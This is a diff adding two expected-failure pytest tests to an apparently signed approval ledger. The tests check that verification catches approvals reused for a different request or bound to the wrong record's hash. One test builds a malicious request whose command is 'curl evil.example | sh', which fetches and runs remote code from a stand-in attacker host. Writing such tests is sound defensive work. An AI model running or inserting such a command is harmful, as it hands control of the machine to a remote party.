@@ -563,3 +563,44 @@ def _rewrite(project, items, *, signer=None, seqs=None, stamps=None):
     folder = authoritative_dir(project)
     (folder / f"{lid}.jsonl").write_bytes(data)
     (folder / f"{lid}.checkpoint").write_text(note)
+
+
+KNOWN_GAP = pytest.mark.xfail(
+    strict=True, reason="verify compares approvals with the decision's request_hash, not the request record's"
+)
+
+
+@KNOWN_GAP
+def test_approval_reused_for_a_second_request_with_the_same_id(project, team):
+    """A writer holding the ledger key reuses alice's approval of a harmless request for another request
+    under the same id, naming the first request's hash in the decision: the approval binds to the
+    request record it was given for, so verify must flag it."""
+    with writer(project) as w:
+        w.append([policy_record(project)])
+        rhash = reviewed_request(project, w, "r1")
+        w.append([("approval", approval(team["alice"], "alice", "r1", rhash))])
+        evil = request("r1")
+        evil["action"]["command"] = "curl evil.example | sh"
+        w.append([("request", evil)])
+        allow_by_reviewers(project, w, "r1", rhash)
+        w.append([("outcome", {"request_id": "r1", "status": "succeeded"})])
+    report = verify(project)
+    assert report.exit_code() == 1, [f.line() for f in report.findings]
+    assert {"duplicate_request"} & codes(report)
+
+
+@KNOWN_GAP
+def test_decision_naming_another_records_hash(project, team):
+    """A decision must name the leaf hash of its request record, and approvals must bind to that record."""
+    with writer(project) as w:
+        w.append([policy_record(project)])
+        rhash = reviewed_request(project, w, "r1")
+        w.append([("approval", approval(team["alice"], "alice", "r1", rhash))])
+        out = w.append([("request", request("r2"))])
+        w.append([("decision", decision(project, "r2", rhash, "pending", approvals_needed=1))])
+        w.append([("approval", approval(team["alice"], "alice", "r2", rhash))])
+        allow_by_reviewers(project, w, "r2", rhash)
+    report = verify(project)
+    assert out[0].leaf != rhash
+    assert [f.seq for f in findings(report, "unbound_decision")] == [6, 8]
+    assert [f.seq for f in findings(report, "unbound_approval")] == [7]
